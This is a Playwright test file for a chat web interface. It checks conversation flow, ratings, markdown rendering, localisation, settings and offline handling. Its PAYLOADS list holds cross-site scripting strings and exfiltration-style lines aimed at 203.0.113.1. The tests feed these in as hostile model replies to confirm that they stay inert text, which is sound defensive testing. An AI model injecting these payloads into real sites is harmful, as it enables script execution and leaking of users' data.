"""The chat page in a real browser: what a person does there, and what hostile replies cannot do."""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright
from sqlalchemy import select

from gptwright.serving.api import create_app
from gptwright.store.database import Store
from gptwright.store.tables import Annotation

pytestmark = pytest.mark.browser

FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
         "--disable-sync", "--no-first-run"]  # fmt: skip


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=chromium, args=FLAGS)
        yield opened
        opened.close()


class Visit:
    """A page, and everything that must not happen on it."""

    def __init__(self, browser: Browser, address: str, **options: Any) -> None:
        self.context = browser.new_context(**({"locale": "en-GB"} | options))
        self.page: Page = self.context.new_page()
        self.faults: list[str] = []
        self.page.on("console", lambda m: self.faults.append(m.text) if m.type in ("error", "warning") else None)
        self.page.on("pageerror", lambda error: self.faults.append(str(error)))
        self.page.on("dialog", lambda dialog: self.faults.append(f"dialog {dialog.message}"))
        self.context.on("request", lambda r: self._inside(r.url, address))
        self.page.goto(address)

    def _inside(self, url: str, address: str) -> None:
        if not url.startswith((f"{address}/", "blob:")):
            self.faults.append(f"request to {url}")


@pytest.fixture
def visit(browser: Browser, address: str) -> Iterator[Visit]:
    made = Visit(browser, address)
    expect(made.page.locator("#model")).to_have_text("tiny")
    yield made
    made.context.close()
    assert made.faults == []


def say(page: Page, text: str) -> None:
    page.locator("#prompt").fill(text)
    page.locator("#prompt").press("Enter")


def answered(page: Page, count: int = 1) -> Any:
    expect(page.locator("#messages .assistant .tools")).to_have_count(count)
    return page.locator("#messages .assistant").last


def test_a_conversation_from_question_to_rating(visit: Visit, model: Any, store: Store, rated: Any) -> None:
    page, model.paced = visit.page, True
    say(page, "Say hello")
    expect(page.locator("#stop")).to_be_visible()
    model.gate.set()
    expect(page.locator(".assistant .text")).to_have_text("Hello")
    expect(page.locator(".assistant .tools")).to_have_count(0)
    model.paced = False
    model.gate.set()
    answer = answered(page)
    expect(answer.locator(".text")).to_have_text(model.reply)
    expect(answer.locator(".facts")).to_contain_text("4 tokens")
    expect(page.locator("#live")).to_have_text(model.reply)
    answer.get_by_role("button", name="Good answer").click()
    expect(page.locator("#live")).to_have_text("Rating saved")
    answer.get_by_role("button", name="Bad answer").click()
    expect(answer.get_by_role("button", name="Bad answer")).to_have_attribute("aria-pressed", "true")
    expect(answer.get_by_role("button", name="Good answer")).to_have_attribute("aria-pressed", "false")
    page.wait_for_function("() => JSON.parse(localStorage['gptwright.chat'])[1].rating === 'down'")
    with store.read() as session:
        rows = session.scalars(select(Annotation).order_by(Annotation.number)).all()
    assert [row.value for row in rows] == ["up", "down"] and rows[0].id == rows[1].id
    [line] = rated()
    assert line["rating"] == "down" and line["messages"] == [
        {"role": "user", "content": "Say hello"},
        {"role": "assistant", "content": model.reply},
    ]


def test_the_conversation_outlives_a_reload(visit: Visit, model: Any) -> None:
    page = visit.page
    say(page, "first")
    answered(page).get_by_role("button", name="Good answer").click()
    expect(page.locator("#live")).to_have_text("Rating saved")
    say(page, "second")
    answered(page, 2)
    page.reload()
    answered(page, 2)
    expect(page.locator("[data-act=up]").first).to_have_attribute("aria-pressed", "true")
    assert [m["content"] for m in model.asked[1][0]] == ["first", model.reply, "second"]
    page.locator("#new").click()
    expect(page.locator("#welcome")).to_be_visible()
    page.reload()
    expect(page.locator("#messages li")).to_have_count(0)


def test_stop_and_answer_again(visit: Visit, model: Any) -> None:
    page, model.paced = visit.page, True
    say(page, "Go on")
    model.gate.set()
    expect(page.locator(".assistant .text")).to_have_text("Hello")
    page.keyboard.press("Escape")
    expect(answered(page).locator(".facts")).to_contain_text("stopped")
    model.paced = False
    model.gate.set()
    page.get_by_role("button", name="Answer again").click()
    expect(page.locator(".assistant .text")).to_have_text(model.reply)
    answered(page)
    assert model.asked[0][0] == model.asked[1][0]


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "![x](http://203.0.113.1/?secret)",
    "[go](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "`<b>code</b>` **<i>bold</i>**",
    "<style>@import 'http://203.0.113.1/x.css'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=http://203.0.113.1><button>go</button></form>",
]


@pytest.mark.parametrize("frame", ["{}", "- {}", "```html\n{}\n```", "# {}", "**{}**", "1. {}\n   {}"])
def test_a_hostile_reply_stays_text(visit: Visit, model: Any, frame: str) -> None:
    page = visit.page
    model.sampling, model.context = type(model.sampling)(max_tokens=400), 500
    model.reply = "\n\n".join(frame.format(payload, payload) for payload in PAYLOADS)
    say(page, "<script>alert(2)</script><img src=x onerror=alert(2)>")
    shown = answered(page).locator(".text")
    made = set(shown.evaluate("e => [...e.querySelectorAll('*')].map(x => x.localName)"))
    assert made <= {"p", "ul", "ol", "li", "pre", "code", "strong", "em", "h3"}
    text = re.sub(r"\s", "", shown.inner_text())
    for payload in PAYLOADS:
        assert re.sub(r"[\s`*]", "", payload) in re.sub(r"[`*]", "", text)
    assert page.locator(".user script, .user img").count() == 0


MARKDOWN = """# Cats

Cats are **small** animals, and `purr()` is a *sound*.
Second line.

- one
- two **bold**
  goes on

3. three
4. four

```python
print("<b>")  # **not bold**

x = 1
```

The end of 2 ** 3, 2 * 3 * 4 and a lone ` mark."""


def test_markdown_becomes_elements(visit: Visit, model: Any) -> None:
    page = visit.page
    model.sampling, model.reply = type(model.sampling)(max_tokens=64), MARKDOWN
    say(page, "x")
    text = answered(page).locator(".text")
    expect(text.locator("h3")).to_have_text("Cats")
    expect(text.locator("strong")).to_have_text(["small", "bold"])
    expect(text.locator("em")).to_have_text("sound")
    expect(text.locator("ul > li")).to_have_text(["one", "two bold\ngoes on"])
    expect(text.locator("ol > li")).to_have_text(["three", "four"])
    assert text.locator("ol").get_attribute("start") == "3"
    assert text.locator("pre code").inner_text() == 'print("<b>")  # **not bold**\n\nx = 1'
    expect(text.locator("p").last).to_have_text("The end of 2 ** 3, 2 * 3 * 4 and a lone ` mark.")


def test_languages(browser: Browser, address: str) -> None:
    visit = Visit(browser, address, locale="zh-CN")
    page = visit.page
    expect(page.locator("h2[data-text=welcome]")).to_have_text("想问点什么？")
    assert page.locator("html").get_attribute("lang") == "zh-Hans"
    say(page, "你好")
    expect(answered(page).locator(".facts")).to_contain_text("个词元")
    page.locator("#language").click()
    expect(answered(page).get_by_role("button", name="Good answer")).to_be_visible()
    page.reload()
    expect(page.locator("#prompt")).to_have_attribute("placeholder", "Write a message")
    visit.context.close()
    assert visit.faults == []


def test_every_string_stands_in_both_languages(visit: Visit) -> None:
    kinds = visit.page.evaluate(
        """async () => { const { strings } = await import('/strings.js');
        return Object.values(strings).map(t => Object.entries(t).map(([k, v]) => k + ' ' + typeof v)); }"""
    )
    assert kinds[0] == kinds[1]
    named = visit.page.evaluate(
        """() => ['text', 'title', 'label', 'placeholder'].flatMap(kind =>
        [...document.querySelectorAll(`[data-${kind}]`)].map(e => e.dataset[kind]))"""
    )
    assert {f"{name} string" for name in named} <= set(kinds[0])


def test_settings_reach_the_model_and_are_kept(visit: Visit, model: Any) -> None:
    page = visit.page
    page.locator("#settings-open").click()
    expect(page.locator("#temperature")).to_have_attribute("placeholder", "0.7")
    for name, value in {
        "system": "Be brief.",
        "temperature": "0.25",
        "top_p": "0.5",
        "max_tokens": "3",
        "seed": "7",
    }.items():
        page.locator(f"#{name}").fill(value)
    page.locator("#temperature").fill("9")
    page.locator("#temperature").blur()
    expect(page.locator("#temperature")).to_have_value("0.25")
    page.keyboard.press("Escape")
    page.reload()
    say(page, "x")
    answer = answered(page)
    expect(answer.locator(".facts")).to_contain_text("longest reply reached")
    messages, sampling = model.asked[0]
    assert messages[0] == {"role": "system", "content": "Be brief."}
    assert (sampling.temperature, sampling.top_p, sampling.max_tokens, sampling.seed) == (0.25, 0.5, 3, 7)
    page.locator("#settings-open").click()
    with page.expect_download() as download:
        page.locator("#export").click()
    kept = json.loads(Path(download.value.path()).read_text(encoding="utf-8"))
    assert kept["model"] == "tiny" and [m["role"] for m in kept["messages"]] == ["system", "user", "assistant"]


def test_keys_and_examples(visit: Visit, model: Any) -> None:
    page = visit.page
    page.locator("#prompt").fill("one")
    page.locator("#prompt").press("Shift+Enter")
    page.locator("#prompt").press("End")
    assert page.locator("#prompt").input_value() == "one\n"
    page.locator("#prompt").dispatch_event("keydown", {"key": "Enter", "isComposing": True})
    assert not model.asked
    page.get_by_role("button", name="What is a cat?").click()
    answered(page)
    assert model.asked[0][0] == [{"role": "user", "content": "What is a cat?"}]


def test_a_long_conversation_leaves_out_its_oldest_turns(visit: Visit, model: Any, rated: Any) -> None:
    page = visit.page
    for turn in range(3):
        say(page, f"turn {turn} " + "word " * 20)
        answered(page, turn + 1)
    assert len(model.asked[-1][0]) == 3
    answer = page.locator(".assistant").last
    expect(answer.locator(".facts")).to_contain_text("without the oldest messages")
    answer.get_by_role("button", name="Good answer").click()
    expect(page.locator("#live")).to_have_text("Rating saved")
    assert rated()[0]["messages"][:-1] == model.asked[-1][0]


def test_a_question_that_is_too_long_says_so(visit: Visit) -> None:
    say(visit.page, "word " * 80)
    expect(visit.page.locator("#notice")).to_contain_text("longer than the model can read")
    visit.faults[:] = [f for f in visit.faults if "400 (Bad Request)" not in f]


def test_a_server_that_has_gone(visit: Visit) -> None:
    visit.context.set_offline(True)
    say(visit.page, "x")
    expect(visit.page.locator("#notice")).to_contain_text("does not answer")
    visit.context.set_offline(False)
    visit.page.locator("#retry").click()
    answered(visit.page)
    visit.faults[:] = [f for f in visit.faults if "ERR_INTERNET_DISCONNECTED" not in f]


def test_the_page_asks_for_the_key(browser: Browser, serve: Any, model: Any, store: Store) -> None:
    with serve(create_app({model.name: model}, store, keys={"anna": "secret"})) as address:
        visit = Visit(browser, address)
        expect(visit.page.locator("#settings")).to_be_visible()
        visit.page.locator("#key").fill("secret")
        visit.page.locator("#key").press("Enter")
        expect(visit.page.locator("#model")).to_have_text("tiny")
        say(visit.page, "x")
        answered(visit.page).get_by_role("button", name="Good answer").click()
        expect(visit.page.locator("#live")).to_have_text("Rating saved")
        visit.context.close()
    assert all("401" in fault for fault in visit.faults)


def test_classifiers_alone_write_nothing_and_the_page_says_so(browser: Browser, serve: Any, store: Store) -> None:
    with serve(create_app({}, store)) as address:
        visit = Visit(browser, address)
        expect(visit.page.locator("#notice")).to_contain_text("/v1/moderations")
        visit.context.close()
    assert visit.faults == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_small_screen_and_colours(browser: Browser, address: str, model: Any, scheme: Any) -> None:
    visit = Visit(browser, address, viewport={"width": 360, "height": 640}, color_scheme=scheme)
    model.reply = "W" * 300 + " ```\n" + "x = 1; " * 40 + "\n```"
    say(visit.page, "y" * 200)
    answered(visit.page)
    assert visit.page.evaluate("document.documentElement.scrollWidth") <= 360
    ground = "getComputedStyle(document.body).backgroundColor"
    before = visit.page.evaluate(ground)
    visit.page.locator("#theme").click()
    after = visit.page.evaluate(ground)
    assert before != after
    visit.page.reload()
    assert visit.page.evaluate(ground) == after
    visit.context.close()
    assert visit.faults == []
